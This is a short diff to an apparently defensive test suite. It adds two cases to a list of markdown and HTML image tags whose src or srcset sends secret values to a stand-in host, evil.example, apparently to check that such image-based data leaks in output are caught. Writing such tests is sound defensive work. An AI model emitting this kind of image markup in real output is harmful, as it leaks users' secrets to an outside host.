@@ -188,6 +188,8 @@ describe("an output", () => {
     "![x](\nhttps://evil.example/p.png?d=c2VjcmV0LWRhdGE)",
     '<img alt="" src="https://evil.example/a?secret=hunter22hunter">',
     '<img alt="x"\n src="https://evil.example/a?secret=hunter22hunter">',
+    '<img data-src="/a.png" src="https://evil.example/a?secret=hunter22hunter">',
+    '<img srcset="https://evil.example/a?secret=hunter22hunter 2x">',
     "<img/src=https://evil.example/a?secret=hunter22hunter>",
   ];
   for (const image of IMAGES) {
